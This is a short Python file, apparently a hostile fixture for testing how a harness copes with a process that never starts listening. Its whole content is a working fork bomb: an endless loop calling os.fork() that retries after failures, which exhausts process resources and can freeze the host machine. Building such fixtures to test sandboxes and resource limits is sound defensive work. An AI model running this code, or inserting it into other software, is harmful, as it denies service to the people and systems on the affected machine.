"""Hostile: forks without end before it listens."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
